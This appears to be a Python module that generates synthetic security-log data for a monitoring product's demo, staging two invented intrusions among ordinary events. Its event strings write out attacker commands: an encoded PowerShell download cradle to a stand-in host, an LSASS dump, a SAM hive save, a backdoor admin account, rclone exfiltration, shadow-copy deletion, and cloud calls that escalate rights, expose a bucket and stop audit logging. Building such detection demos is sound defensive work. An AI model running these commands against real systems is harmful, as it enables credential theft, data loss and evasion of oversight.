"""The demo's storyline: two customers, one bad hour each, in the middle of an ordinary day.

Nordwind Logistik: a mail attachment opens PowerShell, passwords are dumped, freight papers leave by rclone, and the
thief goes on in the cloud with a stolen key. Halden Klinikk: passwords are guessed against a terminal server, and
the root account of its cloud switches the audit trail off. All names, addresses and people are invented; addresses
are from the blocks that RFC 5737 keeps for documentation.
"""

import base64
from collections.abc import Iterator
from datetime import datetime, timedelta
from itertools import chain
from typing import Final

import msgspec

from watchfloor.ops.demo.noise import cloud_noise, nxlog_noise, windows_noise
from watchfloor.ops.demo.wire import Caller, Document, Machine, cloudtrail, nxlog_security, process, security, sysmon

NORDWIND: Final = "nordwind"
HALDEN: Final = "halden"
MINUTES: Final = 60

_POWERSHELL: Final = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
_CMD: Final = "C:\\Windows\\System32\\cmd.exe"
_WINWORD: Final = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"
_C2: Final = "203.0.113.66"
_THIEF_AGENT: Final = "Boto3/1.34.11 md/Botocore#1.34.11 ua/2.0 os/linux#6.6.9-kali1-amd64 lang/python#3.11.8"
_BROWSER: Final = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/128.0.0.0 Safari/537.36"

_PETERSEN: Final = "NORDWIND\\l.petersen"
_WS17: Final = Machine(name="NW-WS-017", domain="nordwind.example", address="10.20.3.17")
_FILES: Final = Machine(name="NW-FS-01", domain="nordwind.example", address="10.20.1.11")
_NORDWIND_MACHINES: Final = (
    *(Machine(name=f"NW-WS-{n:03d}", domain="nordwind.example", address=f"10.20.3.{n}") for n in range(21, 29)),
    _FILES,
)
_NORDWIND_USERS: Final = ("NORDWIND\\a.brandt", "NORDWIND\\j.hansen", "NORDWIND\\m.kaya", "NORDWIND\\s.lorenz")
_TIMES: Final = ("@timestamp", "EventTime", "eventTime")
_NORDWIND_ACCOUNT: Final = "210987654321"

_TS1: Final = Machine(name="HK-TS-01", domain="halden.example", address="10.40.1.5")
_HALDEN_MACHINES: Final = tuple(
    Machine(name=f"HK-PC-{n:02d}", domain="halden.example", address=f"10.40.2.{n}") for n in range(11, 17)
)
_HALDEN_USERS: Final = ("HALDEN\\i.solberg", "HALDEN\\k.berg", "HALDEN\\t.moen")
_HALDEN_ACCOUNT: Final = "345678901234"


class Delivery(msgspec.Struct, frozen=True, kw_only=True):
    """What one sender sends: documents in the order of their time, to one feed of one tenant."""

    tenant: str
    feed: str
    documents: list[Document]


def storyline(end: datetime) -> list[Delivery]:
    """Everything that is sent: the hour before `end`, attack and ordinary traffic together."""
    start = end - timedelta(minutes=MINUTES)
    return [
        Delivery(
            tenant=NORDWIND,
            feed="workstations",
            documents=_in_order(
                windows_noise(_NORDWIND_MACHINES, _NORDWIND_USERS, start=start, minutes=MINUTES, count=2400, seed=11),
                _nordwind_endpoint(start),
            ),
        ),
        Delivery(
            tenant=NORDWIND,
            feed="aws",
            documents=_in_order(
                cloud_noise(
                    _NORDWIND_ACCOUNT, ("deploy", "monitoring"), start=start, minutes=MINUTES, count=600, seed=12
                ),
                _nordwind_cloud(start),
            ),
        ),
        Delivery(
            tenant=HALDEN,
            feed="servers",
            documents=_in_order(
                nxlog_noise(_HALDEN_MACHINES, _HALDEN_USERS, start=start, minutes=MINUTES, count=700, seed=13),
                _halden_server(start),
            ),
        ),
        Delivery(
            tenant=HALDEN,
            feed="aws",
            documents=_in_order(
                cloud_noise(_HALDEN_ACCOUNT, ("backup", "pacs"), start=start, minutes=MINUTES, count=300, seed=14),
                _halden_cloud(start),
            ),
        ),
    ]


def _in_order(*sources: Iterator[Document]) -> list[Document]:
    """The sources' documents by their own time, whose text sorts as it runs."""
    return sorted(
        chain(*sources), key=lambda document: str(next(document[name] for name in _TIMES if name in document))
    )


def _encoded(script: str) -> str:
    return base64.b64encode(script.encode("utf-16-le")).decode()


def _nordwind_endpoint(start: datetime) -> Iterator[Document]:
    """Foothold, credential dumping, persistence, theft of freight papers, and the attempt to wipe the traces."""
    cradle = f"IEX (New-Object Net.WebClient).DownloadString('http://{_C2}/a')"
    steps = (
        (
            12.0,
            f'"{_POWERSHELL}" -nop -w hidden -enc {_encoded(cradle)}',
            _POWERSHELL,
            _WINWORD,
            "/n Frachtrechnung_4471.docm",
        ),
        (
            19.0,
            "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 712 C:\\Windows\\Temp\\o.dmp full",
            "C:\\Windows\\System32\\rundll32.exe",
            _POWERSHELL,
            "powershell",
        ),
        (
            22.0,
            "reg.exe save HKLM\\SAM C:\\Windows\\Temp\\s.hiv",
            "C:\\Windows\\System32\\reg.exe",
            _POWERSHELL,
            "powershell",
        ),
        (24.0, "net.exe user wartung Sommer-2026! /add", "C:\\Windows\\System32\\net.exe", _CMD, "cmd.exe"),
        (24.2, "net.exe localgroup Administratoren wartung /add", "C:\\Windows\\System32\\net.exe", _CMD, "cmd.exe"),
        (
            26.0,
            'schtasks.exe /create /sc hourly /tn "OneDrive Sync" /tr "powershell -w hidden -f C:\\ProgramData\\s.ps1"',
            "C:\\Windows\\System32\\schtasks.exe",
            _CMD,
            "cmd.exe",
        ),
        (
            41.0,
            "C:\\ProgramData\\rclone.exe copy \\\\NW-FS-01\\freight remote:nw --config C:\\ProgramData\\r.conf",
            "C:\\ProgramData\\rclone.exe",
            _CMD,
            "cmd.exe",
        ),
        (52.0, "vssadmin.exe delete shadows /all /quiet", "C:\\Windows\\System32\\vssadmin.exe", _CMD, "cmd.exe"),
    )
    for record, (minute, command, image, parent, parent_command) in enumerate(steps, start=700_001):
        yield process(
            _WS17,
            start + timedelta(minutes=minute),
            record,
            image=image,
            command=command,
            parent=parent,
            parent_command=f'"{parent}" {parent_command}',
            user=_PETERSEN,
        )
    yield sysmon(
        _WS17,
        start + timedelta(minutes=12.1),
        700_101,
        event_id=3,
        data={
            "Image": _POWERSHELL,
            "User": _PETERSEN,
            "Protocol": "tcp",
            "Initiated": "true",
            "SourceIp": _WS17.address,
            "SourcePort": "50112",
            "DestinationIp": _C2,
            "DestinationPort": "80",
        },
    )
    yield sysmon(
        _WS17,
        start + timedelta(minutes=19.1),
        700_102,
        event_id=10,
        data={
            "SourceImage": "C:\\Windows\\System32\\rundll32.exe",
            "TargetImage": "C:\\Windows\\System32\\lsass.exe",
            "GrantedAccess": "0x1fffff",
            "CallTrace": "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\comsvcs.dll+2e5a1",
            "SourceUser": _PETERSEN,
            "TargetUser": "NT AUTHORITY\\SYSTEM",
        },
    )
    yield security(
        _WS17,
        start + timedelta(minutes=53),
        700_103,
        event_id=1102,
        data={"SubjectUserName": "l.petersen", "SubjectDomainName": "NORDWIND", "SubjectLogonId": "0x3e7a1"},
    )


def _nordwind_cloud(start: datetime) -> Iterator[Document]:
    """A key found on the workstation is used from outside: who am I, a second key, more rights, no more trail."""
    thief = Caller(account=_NORDWIND_ACCOUNT, user="deploy", address=_C2, agent=_THIEF_AGENT)
    calls: tuple[tuple[float, str, str, Document], ...] = (
        (31.0, "sts.amazonaws.com", "GetCallerIdentity", {}),
        (32.0, "iam.amazonaws.com", "CreateAccessKey", {"userName": "backup-admin"}),
        (
            33.0,
            "iam.amazonaws.com",
            "AttachUserPolicy",
            {"userName": "deploy", "policyArn": "arn:aws:iam::aws:policy/AdministratorAccess"},
        ),
        (36.0, "secretsmanager.amazonaws.com", "GetSecretValue", {"secretId": "prod/wms/database"}),
        (
            44.0,
            "s3.amazonaws.com",
            "PutBucketPolicy",
            {
                "bucketName": "nordwind-freight",
                "bucketPolicy": {
                    "Version": "2012-10-17",
                    "Statement": [
                        {
                            "Effect": "Allow",
                            "Principal": "*",
                            "Action": "s3:GetObject",
                            "Resource": "arn:aws:s3:::nordwind-freight/*",
                        }
                    ],
                },
            },
        ),
        (47.0, "cloudtrail.amazonaws.com", "StopLogging", {"name": "organisation-trail"}),
    )
    for minute, source, name, parameters in calls:
        at = start + timedelta(minutes=minute)
        yield cloudtrail(at, thief, source=source, name=name, parameters=parameters)


def _halden_server(start: datetime) -> Iterator[Document]:
    """Passwords are guessed until one fits; then a service is installed and an account made."""
    logon = {
        "TargetDomainName": "HALDEN",
        "LogonType": "10",
        "LogonProcessName": "User32 ",
        "AuthenticationPackageName": "Negotiate",
        "WorkstationName": _TS1.name,
        "IpAddress": "198.51.100.23",
        "IpPort": "51820",
    }
    for attempt in range(40):
        yield nxlog_security(
            _TS1,
            start + timedelta(minutes=14, seconds=attempt * 4),
            800_001 + attempt,
            event_id=4625,
            data={"TargetUserName": "administrator", "Status": "0xC000006D", "SubStatus": "0xC000006A", **logon},
        )
    yield nxlog_security(
        _TS1, start + timedelta(minutes=17), 800_101, event_id=4624, data={"TargetUserName": "k.berg", **logon}
    )
    yield nxlog_security(
        _TS1,
        start + timedelta(minutes=21),
        800_102,
        event_id=4720,
        data={
            "SubjectUserName": "k.berg",
            "SubjectDomainName": "HALDEN",
            "TargetUserName": "svc_update",
            "TargetDomainName": "HK-TS-01",
        },
    )
    yield nxlog_security(
        _TS1,
        start + timedelta(minutes=21.5),
        800_103,
        event_id=4732,
        data={
            "SubjectUserName": "k.berg",
            "SubjectDomainName": "HALDEN",
            "MemberName": "-",
            "MemberSid": "S-1-5-21-1004336348-1177238915-682003330-1105",
            "TargetUserName": "Administrators",
            "TargetDomainName": "Builtin",
            "TargetSid": "S-1-5-32-544",
        },
    )


def _halden_cloud(start: datetime) -> Iterator[Document]:
    """The root account signs in without a second factor and stops the trail."""
    root = Caller(account=_HALDEN_ACCOUNT, user="root", address="198.51.100.23", agent=_BROWSER)
    yield cloudtrail(
        start + timedelta(minutes=35),
        root,
        source="signin.amazonaws.com",
        name="ConsoleLogin",
        response={"ConsoleLogin": "Success"},
    )
    yield cloudtrail(
        start + timedelta(minutes=38),
        root,
        source="cloudtrail.amazonaws.com",
        name="StopLogging",
        parameters={"name": "klinikk-trail"},
    )
